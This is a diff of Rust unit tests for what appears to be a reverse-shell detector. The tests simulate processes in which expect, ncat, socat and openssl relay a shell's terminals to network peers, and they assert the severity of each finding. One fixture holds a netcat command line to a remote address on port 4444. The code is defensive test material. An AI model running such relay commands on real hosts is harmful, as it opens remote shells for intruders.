@@ -364,3 +364,65 @@ fn the_process_of_a_finding_is_the_shell_and_not_who_owns_the_socket() {
 
     assert_eq!(world.findings()[0].process.as_ref().unwrap().id.pid, 9);
 }
+
+/// A line of an interpreter that holds the masters of a shell and of a client.
+fn two_terminals(exe: &str, line: &str) -> Host {
+    let mut host = Host::default();
+    host.sh(9);
+    host.run(11, exe, line);
+    host.run(12, "/usr/bin/nc.openbsd", "nc 198.51.100.7 4444");
+    host.pty(&[(11, 5)], &stdio(9));
+    host.pty(&[(11, 6)], &stdio(12));
+    host.connected(&[(12, 3)]);
+    host
+}
+
+#[test]
+fn a_line_of_an_interpreter_relays_between_its_two_terminals() {
+    let host = two_terminals("/usr/bin/expect", "expect -c spawn");
+
+    assert!(found(&host).severity >= Severity::Medium);
+}
+
+#[test]
+fn a_program_with_terminals_of_its_own_concern_relays_nothing() {
+    for (exe, line) in [("/usr/bin/node", "node /usr/lib/editor/terminals.js"), ("/opt/editor/editor", "editor")] {
+        assert_eq!(two_terminals(exe, line).findings(9), [], "{exe}");
+    }
+    let mut another = two_terminals("/usr/bin/expect", "expect -c spawn");
+    another.pty(&[(11, 7)], &[]);
+    assert_eq!(another.findings(9), []);
+    let mut watched = two_terminals("/usr/bin/expect", "expect -c spawn");
+    watched.pty(&[(99, 7)], &stdio(11));
+    assert_eq!(watched.findings(9), []);
+}
+
+#[test]
+fn a_peer_in_another_namespace_of_the_same_machine_is_as_far_as_another_host() {
+    let mut host = Host { netns: 1, ..Host::default() };
+    host.sh(9);
+    host.run(11, "/usr/bin/ncat", "ncat --ssl");
+    host.pipe(&[(11, 5)], &[(9, 0)]);
+    host.pipe(&[(9, 1)], &[(11, 6)]);
+    host.connected(&[(11, 3)]);
+    host.netns = 2;
+    host.run(80, "/usr/bin/openssl", "openssl s_server");
+    host.socket(&[(80, 4)], TCP, C2, HERE, Opened::Accepted);
+
+    assert!(found(&host).severity >= Severity::Medium);
+}
+
+#[test]
+fn terminals_of_two_containers_with_one_number_are_two() {
+    let mut host = Host::default();
+    host.sh(9);
+    host.hold(&stdio(9), Object::Terminal { device: 30, index: 0 }, Access::Both);
+    host.run(11, "/usr/bin/socat", "socat");
+    host.hold(&[(11, 5)], Object::TerminalMaster { device: 31, index: 0 }, Access::Both);
+    host.connected(&[(11, 3)]);
+    assert_eq!(host.findings(9), []);
+
+    // Opened by a node outside: of an instance that nobody tells.
+    host.hold(&[(11, 6)], Object::TerminalMaster { device: 0, index: 0 }, Access::Both);
+    assert!(found(&host).severity >= Severity::Medium);
+}
